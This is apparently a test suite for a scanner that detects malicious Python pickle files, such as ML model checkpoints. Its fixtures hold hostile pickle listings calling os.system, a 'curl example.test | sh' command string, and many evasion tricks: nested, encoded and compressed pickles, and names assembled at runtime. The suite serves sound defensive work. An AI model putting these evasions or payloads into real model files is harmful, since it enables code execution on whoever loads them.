import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import { evasions, hostile, unresolvable } from '../../formats/pickle/evasions.fixture.ts';
import { assemblePickle } from '../../formats/pickle/assembler.fixture.ts';
import { buildZip } from '../../formats/zip/zipBuilder.fixture.ts';
import { judgeExample } from '../exampleFiles.fixture.ts';

/** Where another name than the last one is a cause of its own. */
const twice = new Set(['a lookup in sys.modules', 'a registry that SETITEM changes', 'an Unpickler']);

async function judge(listing: string) {
  const findings = await judgeExample({ file: 'model.pkl', pickle: `PROTO 4\n${listing}STOP` });
  return findings.filter(({ ruleId, severity }) => ruleId.startsWith('pickle/') && severity !== 'info');
}

describe('a call that is hidden', () => {
  for (const [what, listing] of Object.entries(evasions)) {
    it(`behind ${what} is told as what it is, and once`, async () => {
      const findings = await judge(listing(hostile));
      const told = findings.filter(({ evidence }) => evidence['call'] === "os.system('echo probe')");
      assert.deepEqual(
        told.map(({ ruleId, severity }) => `${severity} ${ruleId}`),
        ['error pickle/dangerous-import'],
      );
      const others = findings.filter((finding) => !told.includes(finding));
      const loaders = others.filter(({ message }) => /loads? a second pickle/.test(message));
      const hidden = others.filter(({ ruleId }) => ruleId === 'pickle/hidden-pickle');
      if (!twice.has(what)) assert.equal(others.length - loaders.length - hidden.length, 0, JSON.stringify(others));
    });
  }

  for (const [what, listing] of Object.entries(unresolvable)) {
    it(`behind ${what} is an error, though only Python knows what is called`, async () => {
      const findings = await judge(listing(hostile));
      assert.ok(findings.some(({ severity }) => severity === 'error'));
    });
  }

  it('in bytes that are loaded has the path to it', async () => {
    const listing = evasions['a pickle in a pickle']?.(hostile) ?? '';
    const inner = (await judge(listing)).find(({ evidence }) => evidence['call'] === "os.system('echo probe')");
    assert.match(inner?.location.entry ?? '', /^bytes@\d+!bytes@\d+$/);
  });
});

describe('a name that is put together', () => {
  const join = "BINUNICODE 'builtins'\nBINUNICODE 'str.join'\nSTACK_GLOBAL\n";

  it('is an error even where it is harmless: no library writes it', async () => {
    const made = `${join}BINUNICODE ''\nMARK\nBINUNICODE 'collec'\nBINUNICODE 'tions'\nTUPLE\nTUPLE2\nREDUCE\n`;
    const findings = await judge(`${made}BINUNICODE 'OrderedDict'\nSTACK_GLOBAL\n`);
    assert.ok(findings.some(({ severity, ruleId }) => severity === 'error' && ruleId === 'pickle/unresolved-import'));
  });

  /** Ways in which working it out could come to another name than Python does: none may pass with less than an error. */
  const list = "MARK\nBINUNICODE 'm'\nBINUNICODE 'y'\nLIST\n";
  const named = (module: string, name: string) => `BINUNICODE '${module}'\nBINUNICODE '${name}'\nSTACK_GLOBAL\n`;
  const doubtful: Record<string, string> = {
    'of a list that a call reversed': `${join}BINUNICODE ''\n${list}MEMOIZE\n${named('builtins', 'list.reverse')}BINGET 0\nTUPLE1\nREDUCE\nPOP\nTUPLE2\nREDUCE\n`,
    'of a bytearray that grew': `${named('builtins', 'bytes.decode')}BYTEARRAY8 b'm'\nBININT1 121\nAPPEND\nTUPLE1\nREDUCE\n`,
    'of an iterator that is used up': `${named('builtins', 'reversed')}BINUNICODE 'my'\nTUPLE1\nREDUCE\nMEMOIZE\nPOP\n${join}BINUNICODE ''\nBINGET 0\nTUPLE2\nREDUCE\nPOP\n${join}BINUNICODE ''\nBINGET 0\nTUPLE2\nREDUCE\n`,
    'of letters that fold into others': `${named('builtins', 'str.casefold')}BINUNICODE 'poßix'\nTUPLE1\nREDUCE\n`,
    'of bytes with errors ignored': `${named('codecs', 'decode')}BINBYTES hex:6fff73\nBINUNICODE 'utf8'\nBINUNICODE 'ignore'\nTUPLE3\nREDUCE\n`,
    'of half a surrogate pair': `${named('operator', 'getitem')}BINUNICODE hex:eda0806f73\nBININT1 1\nTUPLE2\nREDUCE\n`,
    'of digits with an underscore': `${named('builtins', 'chr')}${named('builtins', 'int')}BINUNICODE '1_11'\nTUPLE1\nREDUCE\nTUPLE1\nREDUCE\n`,
    'of text that is given as all arguments': `${named('builtins', 'str')}BINUNICODE 'my'\nREDUCE\n`,
  };
  for (const [what, made] of Object.entries(doubtful)) {
    it(`${what} is not known`, async () => {
      const findings = await judge(`${made}BINUNICODE 'name'\nSTACK_GLOBAL\nEMPTY_TUPLE\nREDUCE\n`);
      const unknown = findings.filter(({ message }) => message.includes('no checker can know'));
      assert.deepEqual(
        unknown.map(({ severity }) => severity),
        ['error'],
        JSON.stringify(findings),
      );
    });
  }
});

describe('a method', () => {
  it('that says by its name what it does with files is dangerous, whatever its class', async () => {
    const [finding] = await judge("GLOBAL somelibrary Model.save_to\nBINUNICODE 'x'\nTUPLE1\nREDUCE\n");
    assert.equal(finding?.severity, 'error');
    assert.equal((await judge('GLOBAL somelibrary Model.load_state_dict\n'))[0]?.severity, 'warning');
  });
});

describe('a pickle in bytes', () => {
  const inner = Buffer.from(assemblePickle("GLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP")).toString('hex');

  it('is judged as if it were loaded when a function is given it that nobody knows', async () => {
    const bytes = `BINBYTES hex:${inner}\nTUPLE1\nREDUCE\n`;
    const severities = async (callee: string) =>
      (await judge(`GLOBAL ${callee}\n${bytes}`)).map(({ severity }) => severity);
    assert.ok((await severities('somelibrary restore')).includes('error'));
    assert.ok(!(await severities('builtins bytearray')).includes('error'));
  });
});

describe('a pickle in a value that nothing loads', () => {
  const inner = Buffer.from(assemblePickle("GLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP"));
  const gzipped = gzipSync(inner);
  for (const [how, value] of Object.entries({
    'in base64': `BINUNICODE '${inner.toString('base64')}'\n`,
    'in base64 for addresses': `BINUNICODE '${inner.toString('base64url')}'\n`,
    'in base64, as bytes': `BINBYTES b'${inner.toString('base64')}'\n`,
    'in base64, as a line': `UNICODE ${inner.toString('base64')}\n`,
    'in hexadecimal digits': `BINUNICODE '${inner.toString('hex')}'\n`,
    'in zlib': `BINBYTES hex:${deflateSync(inner).toString('hex')}\n`,
    'in gzip in base64': `BINUNICODE '${gzipped.toString('base64')}'\n`,
    'in gzip in gzip': `BINBYTES hex:${gzipSync(gzipped).toString('hex')}\n`,
  }))
    it(`${how} is told`, async () => {
      const findings = await judge(value);
      assert.ok(
        findings.some(({ ruleId, severity }) => ruleId === 'pickle/dangerous-import' && severity !== 'info'),
        JSON.stringify(findings),
      );
    });

  it('is none where the bytes only begin like it', async () => {
    const words = Buffer.from('words '.repeat(50));
    for (const value of [
      `BINUNICODE '${Buffer.from('{"hidden_size": 768, "layers": 12}').toString('base64')}'\n`,
      `BINUNICODE '${'80deadbeef'.repeat(8)}'\n`,
      `BINUNICODE 'eNcoder.layer.eleven.attention.output.weight'\n`,
      `BINBYTES hex:1f8b0800${Buffer.from('no stream of gzip'.repeat(30)).toString('hex')}\n`,
      `BINBYTES hex:${deflateSync(words).toString('hex')}\n`,
    ]) {
      const findings = await judgeExample({ file: 'model.pkl', pickle: `PROTO 4\n${value}STOP` });
      assert.deepEqual(
        findings.filter(({ severity }) => severity !== 'info'),
        [],
        value.slice(0, 60),
      );
    }
  });

  it('that is an archive and the last value does not make the pickle stray data', async () => {
    const archive = Buffer.from(buildZip([{ name: 'a.txt', data: 'x' }])).toString('hex');
    const findings = await judgeExample({ file: 'model.pkl', pickle: `PROTO 4\nBINBYTES hex:${archive}\nSTOP` });
    assert.deepEqual(
      findings.filter(({ severity }) => severity !== 'info'),
      [],
    );
  });
});

describe('an array of objects in a joblib file', () => {
  const wrapper =
    "GLOBAL joblib.numpy_pickle NumpyArrayWrapper\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nMARK\nBINUNICODE 'shape'\nBININT1 1\nTUPLE1\nBINUNICODE 'dtype'\nGLOBAL numpy dtype\nBINUNICODE 'O8'\nNEWFALSE\nNEWTRUE\nTUPLE3\nREDUCE\nSETITEMS\nBUILD\n";
  // Its own memo has the module at 0. A plain unpickler would go on with the memo of the pickle around it.
  const array = (module: string, name: string, argument: string) =>
    `PROTO 4\nBINUNICODE '${module}'\nMEMOIZE\nPOP\nBINGET 0\nBINUNICODE '${name}'\nSTACK_GLOBAL\nBINUNICODE '${argument}'\nTUPLE1\nREDUCE\nSTOP\n`;
  const around = (word: string) => `BINUNICODE '${word}'\nMEMOIZE\nPOP\n${wrapper}`;

  it('is read with a memo of its own, and what the other memo would make by chance is not told', async () => {
    for (const word of ['labels', 'joblib.numpy_pickle', 'os'])
      assert.deepEqual(await judge(`${around(word)}${array('numpy', 'dtype', 'O8')}`), [], word);
  });

  it('is read with the memo around it, too, where that makes something dangerous', async () => {
    const findings = await judge(`${around('os')}${array('numpy', 'system', 'id')}`);
    assert.ok(findings.some(({ evidence }) => evidence['call'] === "os.system('id')"));
    const command = await judge(`${around('somelibrary')}${array('numpy', 'dtype', 'curl example.test | sh')}`);
    assert.ok(command.some(({ severity, message }) => severity === 'error' && message.includes('somelibrary.dtype')));
  });
});

describe('the index of a memo', () => {
  it('is read as Python reads a number, leading zeros and all', async () => {
    const [finding] = await judge(
      'UNICODE os\nPUT 007\nPOP\nGET 0_7\nUNICODE system\nSTACK_GLOBAL\nUNICODE id\nTUPLE1\nREDUCE\n',
    );
    assert.equal(finding?.evidence['call'], "os.system('id')");
  });
});

describe('a module that is a path', () => {
  it('is an error', async () => {
    const [finding] = await judge("BINUNICODE 'data/evil'\nBINUNICODE 'run'\nSTACK_GLOBAL\n");
    assert.equal(`${finding?.severity} ${finding?.ruleId}`, 'error pickle/unresolved-import');
  });
});

describe('what only looks like it', () => {
  it('is left alone: bytes written as text, a bytearray, a named slice', async () => {
    for (const listing of [
      "GLOBAL _codecs encode\nBINUNICODE 'abc'\nBINUNICODE 'latin1'\nTUPLE2\nREDUCE\n",
      "GLOBAL builtins bytearray\nBINBYTES b'abc'\nTUPLE1\nREDUCE\n",
      'GLOBAL builtins slice\nNONE\nNONE\nBININT1 2\nTUPLE3\nREDUCE\n',
    ])
      assert.deepEqual(await judge(listing), []);
  });
});
